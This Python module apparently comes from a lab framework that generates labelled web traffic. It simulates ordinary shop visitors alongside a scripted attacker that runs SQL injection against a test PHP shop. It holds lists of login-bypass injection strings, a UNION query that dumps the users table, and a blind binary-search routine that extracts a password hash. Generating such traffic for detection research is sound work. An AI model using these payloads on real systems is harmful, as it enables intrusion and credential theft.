"""Visitors of the shop, and people who attack it with a browser."""

from __future__ import annotations

import http.client
import platform
from urllib.parse import quote

from probing.lab import isolation
from probing.lab.clients.shop import ACCOUNT, FOUND, LOGIN, STYLE, Page, Step, Visit, way_of
from probing.lab.clients.sql_visits import ATTACKS, Outing, harmless, mistyped
from probing.lab.isolation import PASSWORD
from probing.lab.services.sql_pages import KINDS, LOOKS, PRODUCTS, USES, password_hash
from probing.lab.session import Session

HEX = "0123456789abcdef"
# strings from public lists of injections for logins: some fit the statement, some break it, some fit others
WORKING = ("' OR 1=1 -- ", "' OR '1'='1' -- ", "' OR 'a'='a' #", "' OR 1=1 #", "' OR TRUE -- ", "' || 1=1 -- ",
           f"{isolation.USER}' -- ", f"{isolation.USER}' #", "bob' -- ", "x' OR 1=1 OR 'x'='",
           "' OR name LIKE '%a%' -- ", "' OR 2>1 LIMIT 1 -- ", "' UNION SELECT 'bob' -- ")  # fmt: skip
IN_VAIN = ("'", "''", "' OR '1'='1", "\" OR 1=1 -- ", "') OR 1=1 -- ", "')) OR 1=1 -- ", "admin' -- ", "admin' #",
           "admin'/*", "' OR 1=2 -- ", "1 OR 1=1", "or 1=1", "' HAVING 1=1 -- ", "' GROUP BY 9 -- ", "\\' OR 1=1",
           "' AND 1=1 -- ", "' UNION SELECT 1, 2 -- ", "' UNION ALL SELECT NULL, NULL, NULL -- ", "'; -- ", "`",
           "\" OR \"\"=\"", "') OR ('1'='1", "root' -- ", "' OR 1 -- x' --", "%27%20OR%201=1", "' AND 'a'='b",
           "' ORDER BY 7 -- ", "x' AND email IS NULL -- ", "hi' OR 'x'='y", "*/ OR 1=1 /*")  # fmt: skip
ME = {"name": isolation.USER, "password": PASSWORD}
SECRET = f"SELECT password FROM users WHERE name='{isolation.USER}'"


class User:
    """Ordinary visitors of the shop."""

    programs: tuple[str, ...] = ()

    def perform(self, session: Session) -> None:
        """Do one of visit, browse, search, login, mistyped-login, register, order."""
        visit, way = Visit(session), session.parameters.termination
        *before, last = _steps(session)
        pages = [visit.ask(step) for step in before]
        if way == "sudden":
            visit.lose(last)
            session.outcome(False)
            return
        pages.append(visit.ask(last, way))
        visit.leave(way)
        session.outcome(_is_well(session.activity, pages))

    def version(self) -> str:
        """The version of Python, which runs this."""
        return platform.python_version()


def _steps(session: Session) -> list[Step]:
    """The pages that a visitor asks for, in order."""
    if session.activity in _PAGES:
        steps = _PAGES[session.activity](session)
        if session.parameters.cache == "cold":
            steps.insert(1, Step(STYLE, at_once=True))
        return steps
    return {"visit": harmless, "mistyped-login": mistyped}[session.activity](session)


def _product(session: Session) -> Step:
    return Step(f"/product.php?id={session.rng.randrange(1, PRODUCTS + 1)}")


def _browse(session: Session) -> list[Step]:
    product = _product(session)
    pages = [Step(f"/index.php?page={k}") for k in sorted(session.rng.sample(range(1, PRODUCTS // 24), 2))]
    return [Step("/"), product, pages[0], _product(session), pages[1], _product(session)]


def _search(session: Session) -> list[Step]:
    product = _product(session)
    words = [session.rng.choice(names) for names in (KINDS, LOOKS, USES)]
    return [Step("/"), *(Step(f"/search.php?q={word}") for word in words), product]


def _login(_session: Session) -> list[Step]:
    return [Step(LOGIN), Step(LOGIN, ME), Step(ACCOUNT, at_once=True)]


def _register(session: Session) -> list[Step]:
    rng = session.rng
    name = f"{rng.choice(LOOKS)}{rng.choice(USES)}{rng.randrange(1_000_000):06d}"
    new = {"name": name, "email": f"{name}@example.org", "password": f"{rng.getrandbits(48):012x}"}
    return [Step("/"), Step("/register.php"), Step("/register.php", new)]


def _order(session: Session) -> list[Step]:
    product = _product(session)
    buy = {"product": product.path.partition("=")[2], "pieces": str(session.rng.randrange(1, 5))}
    return [Step(LOGIN, ME), product, Step(ACCOUNT), Step("/order.php", buy)]


_PAGES = {"browse": _browse, "search": _search, "login": _login, "register": _register, "order": _order}


def _is_well(activity: str, pages: list[Page]) -> bool:
    """Whether a visitor reached their goal."""
    if any(page.status not in (http.client.OK, FOUND) for page in pages):
        return False
    if activity == "mistyped-login":
        return any(b"Welcome, " in page.text for page in pages)
    words = {"login": b"Welcome, ", "order": b"We have your order"}.get(activity, b"")
    wanted = FOUND if activity == "register" else http.client.OK
    return pages[-1].status == wanted and words in pages[-1].text


class Hand:
    """An attacker who tries injections by hand, with a browser."""

    programs: tuple[str, ...] = ()

    def perform(self, session: Session) -> None:
        """Do one of visit-…, tautology, union, blind, list-login, list-register."""
        activity, way = session.activity, way_of(session, "fin", "rst")
        if activity in ATTACKS:
            session.outcome(Outing(session, way).go())
            return
        if activity.startswith("list-"):
            session.outcome(_list(session, f"/{activity.removeprefix('list-')}.php"))
            return
        visit = Visit(session, session.parameters.requests + 3 if activity == "blind" else 0)
        attack = {"tautology": _tautology, "union": _union, "blind": _blind}[activity]
        session.outcome(attack(session, visit, way))

    def version(self) -> str:
        """The version of Python, which runs this."""
        return platform.python_version()


def _tautology(session: Session, visit: Visit, way: str) -> bool:
    """Log in with a condition that is always true."""
    visit.ask(Step(LOGIN, phase="browse"))
    words = {"name": session.rng.choice(WORKING), "password": "x"}
    visit.ask(Step(LOGIN, words, phase="injection", then="transfer"))
    page = visit.ask(Step(ACCOUNT, at_once=True, phase=""), way)
    visit.leave(way)
    return b"Welcome, " in page.text


def _union(session: Session, visit: Visit, way: str) -> bool:
    """Make a search list the table of users."""
    visit.ask(Step("/", phase="browse"))
    visit.ask(Step(f"/search.php?q={session.rng.choice(KINDS)}", phase=""))
    columns = session.rng.choice(("id, name, password", "name, email, password", "name, password, email"))
    words = f"{session.rng.getrandbits(24):06x}' UNION SELECT {columns} FROM users -- "
    page = visit.ask(Step(f"/search.php?q={quote(words)}", phase="injection", then="transfer"), way)
    visit.leave(way)
    return password_hash(PASSWORD).encode() in page.text


def _blind(session: Session, visit: Visit, way: str) -> bool:
    """Ask ``requests`` times for a product that is shown if a character of a password's hash is past another."""
    product = session.rng.randrange(1, PRODUCTS + 1)
    visit.ask(Step(f"/product.php?id={product}", phase="browse"))

    def holds(condition: str) -> bool:
        path = "/product.php?id=" + quote(f"{product}' AND {condition} -- ")
        step = Step(path, phase="injection", then="transfer")
        return b"No such product" not in visit.ask(step).text

    number = session.rng.randrange(1000)
    true, false = f"{number}={number}", f"{number}={number + 1}"
    told = ""
    if holds(true) and not holds(false):
        for place in range(1, max(1, (session.parameters.requests - 2) // 4) + 1):
            low, high = 0, len(HEX) - 1
            while low < high:
                middle = (low + high) // 2
                letter = f"ASCII(SUBSTRING(({SECRET}),{place},1))"
                low, high = (middle + 1, high) if holds(f"{letter}>{ord(HEX[middle])}") else (low, middle)
            told += HEX[low]
    visit.leave(way)
    return told != "" and password_hash(PASSWORD).startswith(told)


def _list(session: Session, path: str) -> bool:
    """Try ``guesses`` strings, at least one of which works, in a connection each."""
    count = session.parameters.guesses
    words = [*session.rng.choices((*WORKING, *IN_VAIN), k=count - 1), session.rng.choice(WORKING)]
    session.rng.shuffle(words)
    came_in = False
    for k, word in enumerate(words):
        if k:
            session.think()
        visit = Visit(session, most=1)
        form = {"name": word, "email": "x@example.org", "password": "x"}
        page = visit.ask(Step(path, form, phase="injection", then="transfer"))
        came_in |= page.status == FOUND and page.cookie != ""
    return came_in


USER = User()
HAND = Hand()
